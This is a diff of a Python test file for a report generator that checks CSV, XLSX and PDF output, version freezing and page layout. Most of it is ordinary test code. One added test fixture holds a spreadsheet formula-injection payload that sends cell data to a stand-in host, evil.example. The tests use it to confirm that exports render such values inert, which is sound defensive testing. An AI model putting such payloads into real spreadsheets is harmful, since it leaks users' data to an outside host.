@@ -1,9 +1,8 @@
 """R17 final reports: the Annex 1/2 form, the data against a hand-computed example, every file
 format read back, frozen versions, and generation when a discussion ends.
 
-Real parts: a real SQLite file made by ``submit_api.db.init_db``, real files, WeasyPrint, and
-``pdftotext`` (poppler-utils) to read the PDF back. The rendered example is shared by the module
-(one WeasyPrint render per language).
+Real parts: a real SQLite file made by ``submit_api.db.init_db``, real files, and ``pdftotext``
+(poppler-utils) to read the PDF back. The rendered example is shared by the module.
 """
 from __future__ import annotations
 
@@ -27,6 +26,7 @@ from submit_api.reports.data import report_data
 from submit_api.reports.render import render_report, report_view
 from submit_api.reports.store import (NoReport, current_report, generate_due_reports, regenerate,
                                       report_files, report_versions, verify_report)
+from tests.helpers import moderate_pending
 from tests.helpers import ACCEPTED, ACCEPTED_ANSWER, DOCUMENT, GENERATED, PERSON, REJECTED, REJECTED_ANSWER, REPORT_ADMINISTRATORS as ADMINISTRATORS, UID, UNANSWERED, add_votes, make_example
 
 NBSP = "\u202f"  # Babel puts a narrow no-break space in "2025 ж." and "2025 г."
@@ -135,8 +135,10 @@ def test_r17_rows_are_the_published_proposals_unanswered_included(example):
             for r in rows] == [(1, 1, "2025-02-25", "purpose", "kk", 4, 1),
                                (2, 3, "2025-02-27", "expenses", "ru", 2, 2),
                                (3, 5, "2025-03-10", "purpose", "kk", 1, 0)]
-    assert rows[0]["answer"] == {"decision": "accept", "text": ACCEPTED_ANSWER, "date": "2025-03-03"}
-    assert rows[1]["answer"] == {"decision": "reject", "text": REJECTED_ANSWER, "date": "2025-03-05"}
+    assert rows[0]["answer"] == {"decision": "accept", "text": ACCEPTED_ANSWER, "date": "2025-03-03",
+                                 "after_end": False}
+    assert rows[1]["answer"] == {"decision": "reject", "text": REJECTED_ANSWER, "date": "2025-03-05",
+                                 "after_end": False}
     assert rows[2]["answer"] is None
     assert rows[1]["part"]["title"] == {"kk": "Шығыстар", "ru": "Расходы"}
 
@@ -181,6 +183,17 @@ def test_r17_csv_reads_back(example, lang):
     assert [value for _label, value in note] == ["5", "1", "1", "1"]
 
 
+def as_xlsx(values: list) -> list:
+    """What the workbook holds: the header's and column 2's dates as real dates (issue 14)."""
+    out = list(values)
+    if isinstance(out[1], str) and out[1].count(".") == 2:
+        out[1] = dt.datetime.strptime(out[1], "%d.%m.%Y")
+    return out
+
+
+XLSX_DATES = [dt.datetime(2025, 2, 24), dt.datetime(2025, 3, 11), dt.datetime(2025, 3, 12)]
+
+
 @pytest.mark.parametrize("lang", ["kk", "ru"])
 def test_r17_xlsx_reads_back(example, lang):
     wb = load_workbook(example[1] / lang / "report.xlsx")
@@ -190,14 +203,22 @@ def test_r17_xlsx_reads_back(example, lang):
         form = annex("passport")
         labels = [f"{label}:" for _k, label in form.field_labels(lang)]
         header = [r for r in values if r[0] in labels]
-        assert [(r[0], r[4]) for r in header] == list(zip(labels, EXPECTED_HEADER[lang]))
+        expected = list(EXPECTED_HEADER[lang])
+        expected[1:4] = XLSX_DATES                   # real dates, shown as dd.mm.yyyy
+        assert [(r[0], r[4]) for r in header] == list(zip(labels, expected))
+        date_cell = ws.cell(values.index(header[1]) + 1, 5)
+        assert date_cell.is_date and date_cell.number_format == "dd.mm.yyyy"
         start = values.index(form.column_labels(lang))
         assert values[start + 1] == [1, 2, 3, 4, 5, 6, 7]   # the form's column numbers
-        assert values[start + 2:] == EXPECTED_ROWS[lang]
+        assert values[start + 2:] == [as_xlsx(r) for r in EXPECTED_ROWS[lang]]
+        assert ws.cell(start + 3, 2).is_date
         assert ws.freeze_panes == f"A{start + 3}"
         assert ws.column_dimensions["D"].width == 60
         assert ws.cell(start + 3, 4).alignment.wrap_text
+        assert ws.print_title_rows == f"${start + 1}:${start + 2}"
+        assert ws.page_setup.orientation == "landscape"
         assert wb.properties.created == dt.datetime(2025, 3, 12)
+        assert values[2][0].startswith("«")          # «» quotes (issue 14)
     finally:
         wb.close()
 
@@ -246,6 +267,8 @@ def test_r17_same_data_gives_the_same_bytes(example, tmp_path):
 @pytest.fixture
 def db(tmp_path):
     conn = make_example(tmp_path / "ashyq.sqlite3")
+    assert generate_due_reports(conn, [DOCUMENT], GENERATED, tmp_path / "waiting") == []
+    moderate_pending(conn)
     yield conn
     conn.close()
 
@@ -275,7 +298,8 @@ def test_r17_report_is_frozen_and_regenerated_as_a_new_version(db, tmp_path):
     assert verify_report(db, reports, UID, version=1) == [] and verify_report(db, reports, UID) == []
     files = report_files(db, reports, UID)
     assert files["ru"]["report.pdf"] == reports / UID / "v2" / "ru" / "report.pdf"
-    assert sorted(files["kk"]) == ["report.csv", "report.json", "report.pdf", "report.xlsx"]
+    assert sorted(files["kk"]) == ["report.csv", "report.json", "report.pdf", "report.sha256.json",
+                                   "report.sha256.json.p7s", "report.xlsx"]
     deliveries = db.execute("SELECT report, recipient, status, message_id FROM deliveries "
                             "ORDER BY id").fetchall()
     assert [tuple(d) for d in deliveries] == [
@@ -362,6 +386,94 @@ def test_r17_a_worker_that_loses_the_race_throws_its_files_away(db, tmp_path):
     reports = tmp_path / "reports"
     generate_due_reports(db, [DOCUMENT], GENERATED, reports)
     assert _create(db, DOCUMENT, GENERATED, reports, 1, None, True) is None
-    assert sorted(p.name for p in (reports / UID).iterdir()) == ["v1"]
+    assert sorted(p.name for p in (reports / UID).iterdir()) == ["v1", "versions.json"]
     assert db.execute("SELECT count(*) FROM reports").fetchone()[0] == 1
     assert verify_report(db, reports, UID) == []
+
+
+def test_r17_pdf_table_crosses_pages_with_its_headers_and_the_form_in_order(example, tmp_path):
+    """A long table: every page repeats the 7 column labels and their numbers; page 1 holds the
+    13 fields in the form's order; the foot says "uid · vN" and "page / pages"."""
+    data = json.loads(json.dumps(example[0]))
+    long_text = " ".join([ACCEPTED] * 12)
+    data["rows"] = [dict(data["rows"][i % 3], no=i + 1, text=long_text) for i in range(60)]
+    data["rows"].append(dict(data["rows"][0], no=61, text="ә" * 3000))  # taller than a page
+    for lang in ("kk", "ru"):
+        render_report(data, tmp_path, langs=(lang,), formats=("report.pdf",))
+        path = tmp_path / lang / "report.pdf"
+        info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True).stdout
+        pages = int(next(line.split()[-1] for line in info.splitlines()
+                         if line.startswith("Pages:")))
+        assert pages > 3
+        form = annex("passport")
+        for page in range(1, pages + 1):
+            text = subprocess.run(["pdftotext", "-f", str(page), "-l", str(page), "-enc", "UTF-8",
+                                   str(path), "-"], capture_output=True, text=True).stdout
+            flat = " ".join(text.replace(NBSP, " ").split())
+            for label in form.column_labels(lang):   # its words in order (the number "6"
+                assert in_order(label.split(), flat.split()), (lang, page, label)  # may cut in)
+            assert f"{UID} · v1" in flat and f"{page} / {pages}" in flat
+        first = pdf_text_page(path, 1)
+        positions = [first.index(label) for _k, label in form.field_labels(lang)]
+        assert positions == sorted(positions)        # the 13 fields in the form's order
+        fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True).stdout
+        assert fonts.count("yes") >= 3 and "NotoSans" in fonts   # embedded, with ToUnicode
+
+
+def pdf_text_page(path: Path, page: int) -> str:
+    out = subprocess.run(["pdftotext", "-f", str(page), "-l", str(page), "-enc", "UTF-8",
+                          str(path), "-"], check=True, capture_output=True, text=True).stdout
+    return " ".join(out.replace(NBSP, " ").split())
+
+
+def in_order(words: list[str], text: list[str]) -> bool:
+    rest = iter(text)
+    return all(word in rest for word in words)
+
+
+# --- issue 13: formula-leading text stays inert text ---------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def hostile_report(tmp_path):
+    conn = make_example(tmp_path / "db.sqlite3")
+    conn.execute("UPDATE proposals SET text = ?, answer_text = ? WHERE id = 1",
+                 (HYPERLINK, "@SUM(A1:A9)"))
+    data = report_data(conn, DOCUMENT, GENERATED)
+    conn.close()
+    render_report(data, tmp_path / "out", formats=("report.csv", "report.xlsx"), parallel=False)
+    return tmp_path / "out"
+
+
+def test_report_csv_escapes_formulas(hostile_report):
+    raw = (hostile_report / "ru" / "report.csv").read_bytes()
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    [row] = [r for r in rows if r and r[0] == "1"]
+    assert row[3] == "'" + HYPERLINK
+    assert row[4].startswith("Принято")             # "Принято (…): @SUM…" is not formula-leading
+
+
+def test_report_xlsx_keeps_formulas_as_text(hostile_report):
+    wb = load_workbook(hostile_report / "kk" / "report.xlsx")
+    cells = [c for row in wb.active.iter_rows() for c in row if c.value == HYPERLINK]
+    assert cells and all(c.data_type == "s" for c in cells)
+    wb.close()
+
+
+def test_r17_a_failing_language_fails_the_report(example, tmp_path, monkeypatch):
+    """Rendered side by side (a forked child for ru): the child's failure is the report's."""
+    from submit_api.reports import render
+
+    original = render.report_view
+
+    def broken(data, lang):
+        if lang == "ru":
+            raise ValueError("broken ru labels")
+        return original(data, lang)
+
+    monkeypatch.setattr(render, "report_view", broken)
+    with pytest.raises(ChildProcessError):
+        render.render_report(example[0], tmp_path, formats=("report.csv",), parallel=True)
+    assert (tmp_path / "kk" / "report.csv").exists()
